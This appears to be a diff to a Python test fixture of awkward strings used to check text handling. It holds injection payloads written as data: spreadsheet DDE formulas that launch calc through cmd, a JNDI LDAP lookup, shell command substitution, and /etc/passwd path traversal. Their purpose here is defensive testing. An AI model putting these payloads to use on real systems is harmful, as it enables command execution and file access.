@@ -11,6 +11,9 @@ KEPT = (
     "{{ settings.SECRET_KEY }} {% include 'x' %} %s %(name)s ${jndi:ldap://192.0.2.1/a} `id` $(id)",
     "=HYPERLINK(\"http://192.0.2.1\";\"x\")",
     "+1 @SUM(A1) -2",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\U0001d518\U0001d52b\U0001d526 \U00020bb7 \U0001f9d1\U0001f3fd\u200d\U0001f91d\u200d\U0001f9d1\U0001f3fb",
     "&lt;b&gt; &amp;amp; &#60; ]]> <![CDATA[x]]>",
     "../../../etc/passwd C:\\CON \\n \\\\",
     "undefined null None NaN true 0 -1 1e400 0x1F",
@@ -32,9 +35,17 @@ CHANGED = {
     "Z\u0351\u036b\u0343\u0334\u0319": "Z\u0334\u0319\u0351\u036b\u0313",
     "one\r\ntwo\rthree\u2028four": "one\ntwo\nthree\nfour",
     "\ufeffmark": "mark",
+    "flag \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f": "flag \U0001f3f4",
 }
 
 LONGEST = 5000
-LONG = tuple("".join(islice(cycle(f"{text} "), LONGEST - 1)).strip() + "." for text in KEPT[10:])
+FIRST_OF_OTHER_SCRIPTS = KEPT.index("العربية، من اليمين إلى اليسار، 123")
+LONG = (
+    *(
+        "".join(islice(cycle(f"{text} "), LONGEST - 1)).strip() + "."
+        for text in KEPT[FIRST_OF_OTHER_SCRIPTS:]
+    ),
+    "w" * (LONGEST - 1) + ".",
+)
 
 TYPED: dict[str, str] = {**{text: text for text in (*KEPT, *LONG)}, **CHANGED}
